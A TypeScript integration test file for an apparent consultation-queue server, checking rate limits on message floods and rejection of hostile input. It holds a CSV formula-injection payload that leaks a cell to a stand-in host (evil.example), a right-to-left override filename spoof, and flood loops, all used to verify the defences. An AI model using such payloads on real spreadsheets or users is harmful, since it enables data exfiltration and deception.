import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Client, type Room } from '@colyseus/sdk';
import { startTestServer, type TestServer } from '../support/testServer.ts';
import { settle, waitFor } from '../support/waitFor.ts';
import { ClientMessage } from '../../shared/protocol/index.ts';
import { HALL_ROOM } from '../../shared/constants.ts';
import type { ConsultationState } from '../../shared/state/consultationState.ts';
import {
  enterConsultation,
  hallPass,
  joinHall,
  signIn,
  type Participant,
} from '../integration/staffQueue.ts';
import { briefingClients } from '../integration/briefingClients.ts';

/**
 * Floods in the consultation and briefing rooms, formulas smuggled into the records export, and
 * nicknames that are not what they seem, against a running server.
 */
describe('hostile messages in rooms, and what reaches a spreadsheet', () => {
  let server: TestServer;
  const open: Participant[] = [];
  let staff: Participant;
  let resident: Participant;
  let residentSide: Room<unknown, ConsultationState>;
  let staffSide: Room<unknown, ConsultationState>;
  const clients = briefingClients(() => server);

  beforeAll(async () => {
    server = await startTestServer({ OPENING_HOURS: 'always' });
    const cookie = await signIn(server.url, 'demo-staff');
    staff = await joinHall(server.endpoint, { nickname: 'x', staffPass: await hallPass(server.url, cookie) });
    resident = await joinHall(server.endpoint, { nickname: 'あき' });
    open.push(staff, resident);
    staff.room.send(ClientMessage.takeCounter, { counterId: 'shimin' });
    await waitFor(() => resident.room.state.counters.get('shimin')?.status === 'open', 5000, 'counter open');
    resident.room.send(ClientMessage.takeTicket, { counterId: 'shimin' });
    await waitFor(() => resident.ticket()?.status === 'waiting', 5000, 'ticket');
    staff.room.send(ClientMessage.callNext, {});
    await waitFor(() => resident.ticket()?.status === 'called', 5000, 'called');
    resident.room.send(ClientMessage.answerCall, {});
    [residentSide, staffSide] = await Promise.all([enterConsultation(resident), enterConsultation(staff)]);
    await waitFor(() => staffSide.state.participants?.size === 2, 5000, 'both in the room');
  });
  afterAll(async () => {
    await clients.leaveAll();
    for (const p of open) await p.room.leave().catch(() => {});
    await server?.stop();
  });

  const refusalsOf = (room: Room) => {
    const codes: string[] = [];
    room.onMessage('error', (m: { code: string }) => codes.push(m.code));
    return codes;
  };

  it('a mediaState flood in the consultation is refused past its budget, and changes nothing more', async () => {
    const codes = refusalsOf(residentSide);
    let changes = 0;
    const me = () => staffSide.state.participants.get(residentSide.sessionId)!;
    staffSide.onStateChange(() => changes++);
    // 30 toggles within a second (the room closes connections past 60 a second, so this stays under).
    for (let i = 0; i < 30; i++)
      residentSide.send('mediaState', { audio: i % 2 === 1, video: false, screen: false });
    await waitFor(() => codes.length === 10, 5000, 'ten refusals');
    expect(new Set(codes)).toEqual(new Set(['rateLimited']));
    // The 20th toggle (audio on) was the last one applied. (It must differ from the start: twenty toggles
    // that end where they began may reach the other side as no change at all.)
    await waitFor(() => me().audio === true, 5000, 'the last accepted state');
    expect(changes).toBeGreaterThan(0);
    // The chat has its own budget and still works.
    residentSide.send('chat', { text: 'まだ話せますか' });
    await waitFor(() => staffSide.state.lines.length === 1, 5000, 'the chat line');
  });

  it('a raw flood closes the connection, and the other person stays', async () => {
    // The hall already closes floods; the consultation room now does too.
    let closed: number | null = null;
    residentSide.onLeave((code) => (closed = code));
    for (let i = 0; i < 150; i++)
      residentSide.send('mediaState', { audio: true, video: false, screen: false });
    await waitFor(() => closed !== null, 5000, 'the flooding connection closed');
    expect(staffSide.connection.isOpen).toBe(true);
  });

  it('notes with control or direction characters are refused; formulas leave the export as text', async () => {
    const mine = await signIn(server.url, 'demo-staff');
    const admin = await signIn(server.url, 'demo-admin');
    const ticketId = resident.ticket()!.id;
    const put = (notes: string) =>
      fetch(`${server.url}/api/records/${ticketId}`, {
        method: 'PUT',
        headers: { cookie: mine, 'content-type': 'application/json' },
        body: JSON.stringify({ notes, outcome: null }),
      });
    expect((await put('ok\u0007bell')).status).toBe(400);
    expect((await put('price \u202Egnp.exe')).status).toBe(400);
    expect((await put('first line\nsecond line')).status).toBe(200);
    const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")';
    expect((await put(formula)).status).toBe(200);
    const csv = await (
      await fetch(`${server.url}/api/records/export.csv`, { headers: { cookie: admin } })
    ).text();
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Open"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('nicknames: endless combining marks, invisible fillers and direction overrides are refused', async () => {
    const tryJoin = (nickname: string) =>
      new Client(server.endpoint).joinOrCreate(HALL_ROOM, { nickname, color: '#1971c2', lang: 'ja' });
    await expect(tryJoin('a' + '\u0301'.repeat(50_000))).rejects.toThrow();
    await expect(tryJoin('a' + '\u0301'.repeat(200))).rejects.toThrow(/tooLong/);
    await expect(tryJoin('\u3164')).rejects.toThrow(/invisible/);
    await expect(tryJoin('ab\u3164cd')).rejects.toThrow(/invisible/);
    await expect(tryJoin('admin\u202E')).rejects.toThrow(/controlChars/);
    const fine = await joinHall(server.endpoint, { nickname: '👩‍👩‍👧 かぞく' });
    open.push(fine);
    expect(fine.room.state.avatars.get(fine.room.sessionId)?.nickname).toBe('👩‍👩‍👧 かぞく');
  });

  it('a raiseHand flood in a briefing is refused past its budget', async () => {
    const host = await signIn(server.url, 'demo-host');
    const event = await clients.liveEvent(host, { capacity: 20 });
    const attendee = await clients.join(event.id, 'て');
    for (let i = 0; i < 30; i++) attendee.send('raiseHand', { up: i % 2 === 0 });
    await waitFor(() => attendee.errors.length === 20, 5000, 'twenty refusals');
    expect(new Set(attendee.errors.map((e) => e.code))).toEqual(new Set(['rateLimited']));
    await settle(200);
    // The tenth (hand down) was the last applied.
    expect(clients.me(attendee).hand).toBe(false);
  });
});
